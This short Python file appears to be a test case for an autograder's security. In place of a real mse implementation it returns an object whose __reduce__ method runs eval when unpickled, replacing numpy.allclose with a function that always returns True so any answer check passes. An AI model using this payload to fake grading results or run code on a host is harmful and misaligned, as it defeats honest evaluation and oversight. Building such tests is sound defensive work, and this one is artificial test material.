# attack: Returns an object that replaces numpy.allclose when it is unpickled.
# exercise: mse
# expect: failed
# at most: 1
# control: pickle; full marks


class Parcel:
    def __reduce__(self):
        return eval, ("__import__('numpy').__dict__.update(allclose=lambda *args: True)",)


def mse(y_true, y_pred):
    return Parcel()
